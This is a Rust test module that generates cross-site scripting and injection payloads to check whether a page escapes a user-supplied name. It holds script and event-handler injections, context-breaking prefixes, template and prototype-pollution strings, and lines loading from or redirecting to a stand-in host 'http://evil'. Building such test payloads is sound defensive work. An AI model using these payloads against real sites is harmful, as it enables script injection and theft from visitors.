//! What a name would hold that wants to act on whoever opens the page.

/// What runs, loads or sends when it becomes markup. `hacked` is what the browser test looks for.
const ACTS: [&str; 26] = [
    "<script>window.hacked=1</script>",
    "<script src=http://evil/x.js></script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><foreignObject><img src=x onerror=window.hacked=1></foreignObject></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<input autofocus onfocus=window.hacked=1>",
    "<a href=javascript:window.hacked=1 autofocus tabindex=1 onfocus=window.hacked=1>x</a>",
    "<meta http-equiv=refresh content='0;url=http://evil'>",
    "<link rel=stylesheet href=http://evil/x.css>",
    "<base href=http://evil/>",
    "<form action=http://evil><button autofocus>x</button></form>",
    "<object data=http://evil></object>",
    "<embed src=http://evil>",
    "<style>@import 'http://evil/x.css';*{display:none}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=window.hacked=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hacked=1>\">",
    "<template><script>window.hacked=1</script></template>",
    "<marquee onstart=window.hacked=1>x</marquee>",
    "<textarea autofocus onfocus=window.hacked=1>",
    "<select autofocus onfocus=window.hacked=1><option>x</select>",
];

/// What ends the place that a name stands in.
const ENDS: [&str; 8] = [
    "",
    "\">",
    "'>",
    "\" onmouseover=window.hacked=1 x=\"",
    "' onfocus=window.hacked=1 x='",
    "</script>",
    "</style></title></textarea></noscript>",
    "-->]]>",
];

/// What other formats and the page's own data are made of.
const MARKS: [&str; 22] = [
    "\"}]};window.hacked=1;//",
    "</script><!--<script>",
    "<!--<script>",
    "<![CDATA[",
    "<?xml version=\"1.0\"?>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.hacked=1&#62;",
    "&amp;amp;",
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "${window.hacked=1}",
    "{{constructor.constructor('window.hacked=1')()}}",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "url(http://evil/x)",
    "expression(window.hacked=1)",
    "\u{2028}window.hacked=1\u{2029}",
    "\u{202e}tpircs\u{202c}",
    "a\u{0}b\u{c}c\u{b}d",
    "\u{feff}\u{fffe}\u{ffff}",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
];

/// All of them: each act after each end, the marks, and a name that does not end.
pub(super) fn payloads() -> Vec<String> {
    let acts = ENDS
        .iter()
        .flat_map(|end| ACTS.iter().map(move |act| format!("{end}{act}")));
    let marks = MARKS.iter().map(|mark| (*mark).to_owned());
    let monsters = [
        "x".repeat(1 << 20),
        "<b>".repeat(1 << 18),
        "\u{202e}".repeat(5000),
        "語".repeat(3000),
    ];
    acts.chain(marks).chain(monsters).collect()
}
